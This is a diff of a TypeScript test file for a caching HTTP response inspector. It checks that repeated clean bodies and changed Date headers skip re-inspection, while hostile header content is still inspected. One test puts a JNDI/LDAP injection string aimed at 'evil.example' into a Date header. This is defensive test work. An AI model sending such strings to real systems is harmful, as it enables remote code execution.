@@ -31,7 +31,7 @@ it("the same clean bytes for the same request are inspected once, and delivered 
     expect([verdict, body]).toEqual(["pass", asked.body]);
     expect(body).toBe(asked.body);
   }
-  expect(seen).toEqual([7, 0, 0]);
+  expect(seen).toEqual([7]);
 });
 
 it("another body, request, status, type or coding is inspected whole, and so is the same after a minute", async () => {
@@ -51,7 +51,21 @@ it("another body, request, status, type or coding is inspected whole, and so is 
   expect(seen).toEqual(Array.from({ length: 7 }, () => 7));
 });
 
-it("header fields are inspected each time", async () => {
+it("other header fields are inspected, another date is not, and what stands in the place of a date is", async () => {
+  const { inspector, seen } = counted();
+  const remembering = rememberingInspector(inspector, () => 0);
+  const at = async (date: string): Promise<string> => {
+    const headers = [["Content-Type", "application/json"] as const, ["Date", date] as const];
+    return (await remembering.inspect(exchange('{"a":1}', { headers }))).verdict;
+  };
+  expect(await at("Tue, 24 Nov 2026 12:00:00 GMT")).toBe("pass");
+  expect(await at("Tue, 24 Nov 2026 12:00:01 GMT")).toBe("pass");
+  expect(seen).toEqual([7]);
+  await at("today ${jndi:ldap://evil.example/a}");
+  expect(seen).toEqual([7, 0, 7]);
+});
+
+it("hostile header fields with a clean body are found", async () => {
   const remembering = rememberingInspector(counted().inspector, () => 0);
   await remembering.inspect(exchange('{"a":1}'));
   const headers = [
